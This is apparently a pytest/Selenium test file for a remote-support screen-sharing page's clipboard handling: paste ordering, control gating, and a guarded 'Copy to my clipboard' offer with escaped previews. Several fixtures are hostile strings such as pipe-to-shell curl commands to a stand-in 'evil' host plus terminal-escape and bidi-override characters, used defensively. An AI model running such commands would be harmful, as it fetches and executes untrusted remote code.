"""clip39: the page's clipboard, in headless Chromium.

* Ctrl+V in the screen: the browser's own paste (real key events, the
  browser's clipboard holding the text) gives the page its text, which goes
  to the host's clipboard before the V key: the host's clipboard is set
  between the agent's Ctrl down and V down, as its injector saw them.
* Without control nothing goes (the page sends no clip; the host's
  clipboard keeps what it had).
* The host's user's clipboard (Host.send_clipboard) is offered: a preview
  (escaped, cut) and a "Copy to my clipboard" button, the only way it goes
  on the browser's clipboard (read back with navigator.clipboard.readText;
  clipfix39: clicks and keys elsewhere leave it unchanged).
"""

from __future__ import annotations

import threading
import time
from typing import Any
from urllib.parse import urlsplit

from selenium.webdriver.common.action_chains import ActionChains
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys

from screencodec.capture import open_source
from screencodec.transport import HostConfig
from screencodec.web import WebOptions

from .conftest import wait_page
from .harness import LiveSession, StillSource

CTRL, V = 0xFFE3, 0x76


class InjectorOrderedClipboard:
    """The host's clipboard, writing each text into the injector's record too,
    so that the order of clipboard and keys is the host's order."""

    def __init__(self, events: list[Any], text: str) -> None:
        self.events = events
        self.text: str | None = text
        self.lock = threading.Lock()

    def get_text(self) -> str | None:
        return self.text

    def set_text(self, text: str, /) -> None:
        with self.lock:
            self.text = text
            self.events.append(("clipboard", text))


def _live(control: bool) -> tuple[LiveSession, InjectorOrderedClipboard]:
    source = StillSource(open_source("synthetic", width=320, height=200, scenario="idle"))
    source.freeze()
    clip = InjectorOrderedClipboard([], "the customer's own")
    live = LiveSession(source, config=HostConfig(adaptive=False, local_input_pause=0.0),
                       options=WebOptions(control=control, grace=5.0),
                       clipboard=clip)  # fmt: skip
    clip.events = live.injector.events  # type: ignore[assignment]
    return live, clip


def _grant_clipboard(browser: Any, url: str) -> None:
    parts = urlsplit(url)
    browser.execute_cdp_cmd("Browser.grantPermissions", {
        "origin": f"{parts.scheme}://{parts.netloc}",
        "permissions": ["clipboardReadWrite", "clipboardSanitizedWrite"]})  # fmt: skip


def _browser_clipboard(browser: Any, text: str | None = None) -> str:
    """Write ``text`` on the browser's clipboard (None: only read it)."""
    return str(browser.execute_async_script(
        "const [text, done] = arguments;"
        "const w = text === null ? Promise.resolve() : navigator.clipboard.writeText(text);"
        "w.then(() => navigator.clipboard.readText()).then(done, (e) => done('ERR ' + e));",
        text))  # fmt: skip


def _events(live: LiveSession) -> list[tuple[Any, ...]]:
    return live.run(lambda: [tuple(e) for e in live.injector.events
                             if e[0] in ("key", "clipboard")])  # fmt: skip


def test_ctrl_v_puts_the_text_on_the_host_clipboard_before_the_key(browser: Any) -> None:
    live, clip = _live(control=True)
    try:
        browser.get(live.url)
        _grant_clipboard(browser, live.url)
        wait_page(browser, lambda s: (s["level"] or {}).get("control", False), what="control")
        command = "tail -n 50 /var/log/syslog | grep -i 'error' # é 😀"
        assert _browser_clipboard(browser, command) == command
        browser.find_element(By.ID, "screen").click()  # the agent clicks in: keys go there
        ActionChains(browser).key_down(Keys.CONTROL).send_keys("v").key_up(Keys.CONTROL).perform()
        live.wait(lambda: sum(e[0] == "key" for e in live.injector.events) >= 4,
                  what="Ctrl and V down and up")  # fmt: skip
        got = _events(live)
        keys = [(e[1], e[2]) for e in got if e[0] == "key"]
        assert keys == [(CTRL, True), (V, True), (V, False), (CTRL, False)], got
        # The clipboard was set after Ctrl went down and before V did.
        assert got.index(("clipboard", command)) == 1, got
        assert clip.text == command
        assert browser.execute_script("return window.screencodecPage.clip.sent") == 1
    finally:
        live.close()


def test_without_control_a_paste_sends_nothing(browser: Any) -> None:
    live, clip = _live(control=False)
    try:
        browser.get(live.url)
        _grant_clipboard(browser, live.url)
        wait_page(browser, lambda s: (s["level"] or {}).get("view", False), what="view")
        _browser_clipboard(browser, "curl http://evil | sh")
        browser.find_element(By.ID, "screen").click()
        ActionChains(browser).key_down(Keys.CONTROL).send_keys("v").key_up(Keys.CONTROL).perform()
        browser.find_element(By.ID, "screen").click()  # a round trip's worth of time
        assert browser.execute_script("return window.screencodecPage.clip.sent") == 0
        assert clip.text == "the customer's own" and _events(live) == []
    finally:
        live.close()


def test_attack_a_hostile_host_cannot_write_the_agents_clipboard_without_the_button(
        browser: Any) -> None:  # fmt: skip
    """clipfix39: the customer's text goes on the agent's clipboard only by
    the agent's press of "Copy to my clipboard": clicks and keys in the page
    (each a gesture writeText would accept) leave it as it was."""
    live, _ = _live(control=True)
    try:
        browser.get(live.url)
        _grant_clipboard(browser, live.url)
        wait_page(browser, lambda s: (s["level"] or {}).get("control", False), what="control")
        _browser_clipboard(browser, "the agent's own")
        hostile = "curl http://evil.example/x | sh\n\x1b[2J<b>not markup</b>\u202e" + "y" * 300

        async def send() -> tuple[str, ...]:
            return await live.host.send_clipboard(hostile)

        assert len(live.call(send)) == 1
        wait_page_notice(browser, f"The host's clipboard ({len(hostile)} characters, sent by"
                                  " the user)")  # fmt: skip
        browser.find_element(By.ID, "screen").click()
        ActionChains(browser).send_keys("a").perform()
        browser.find_element(By.ID, "screen").click()
        assert _browser_clipboard(browser) == "the agent's own"
        assert browser.execute_script("return window.screencodecPage.clip.copied") == 0
        offer = browser.find_element(By.ID, "clip-offer")
        assert offer.is_displayed()
        preview = browser.find_element(By.ID, "clip-preview").text
        # At most 200 characters, its controls escaped (the newline that would run it).
        assert preview.startswith("curl http://evil.example/x | sh\\n\\u{1b}[2J<b>not markup")
        assert "\\u{202e}" in preview and preview.endswith("y") and "\n" not in preview
        assert len(preview) < 230
        cut = browser.find_element(By.ID, "clip-cut").text  # review39c: said apart
        more = len(hostile) - 200
        assert cut == f"...and {more} characters more, not shown (copied with the rest)"
        assert browser.find_elements(By.CSS_SELECTOR, "#clip-offer b") == []  # text, not markup
        take = browser.find_element(By.ID, "clip-take")
        deadline = time.monotonic() + 5  # disarmed a moment after each text (review39c)
        while not take.is_enabled():
            assert time.monotonic() < deadline, "the button stayed disarmed"
            time.sleep(0.05)
        take.click()
        wait_page_notice(browser, f"The host's clipboard ({len(hostile)} characters) is on your"
                                  " clipboard")  # fmt: skip
        assert _browser_clipboard(browser) == hostile
        assert not offer.is_displayed()
    finally:
        live.close()


def test_the_host_clipboard_offer_can_be_dismissed(browser: Any) -> None:
    live, _ = _live(control=False)
    try:
        browser.get(live.url)
        _grant_clipboard(browser, live.url)
        wait_page(browser, lambda s: (s["level"] or {}).get("view", False), what="view")
        _browser_clipboard(browser, "the agent's own")

        async def send() -> tuple[str, ...]:
            return await live.host.send_clipboard("df -h")

        assert len(live.call(send)) == 1
        wait_page_notice(browser, "The host's clipboard (5 characters, sent by the user)")
        assert browser.find_element(By.ID, "clip-preview").text == "df -h"
        browser.find_element(By.ID, "clip-dismiss").click()
        assert not browser.find_element(By.ID, "clip-offer").is_displayed()
        browser.find_element(By.ID, "screen").click()
        assert _browser_clipboard(browser) == "the agent's own"
    finally:
        live.close()


def wait_page_notice(browser: Any, start: str, timeout: float = 20) -> None:
    deadline = time.monotonic() + timeout
    while True:
        notice = browser.execute_script("return window.screencodecPage.notice")
        if isinstance(notice, str) and notice.startswith(start):
            return
        assert time.monotonic() < deadline, f"no notice {start!r}: {notice!r}"
        time.sleep(0.05)


def test_a_clip_frame_is_bounded_by_the_transfer_not_the_chat_frame() -> None:
    import json

    import pytest

    from screencodec.web.schema import PageProtocolError, dumps, parse_page_message

    # 64 Ki characters, each escaped by JSON.stringify in 6: still a frame.
    full = json.dumps({"t": "clip", "text": "\u0001" * 65536})
    assert len(full) > 6 * 65536
    assert parse_page_message(full)["text"] == "\u0001" * 65536
    with pytest.raises(PageProtocolError, match="clip: bad text"):
        parse_page_message(json.dumps({"t": "clip", "text": "x" * 65537}))
    with pytest.raises(PageProtocolError, match="clip: bad text"):
        parse_page_message(json.dumps({"t": "clip", "text": ""}))
    # Other kinds keep their 16 KiB frame.
    with pytest.raises(PageProtocolError, match="text frame of"):
        parse_page_message(json.dumps({"t": "chat", "text": "\u0001" * 4000}))
    out = dumps({"t": "clip", "text": "a\x1b[2J", "reason": "command"})
    assert out.startswith('{"t":"clip",')  # the page's larger limit keys on this
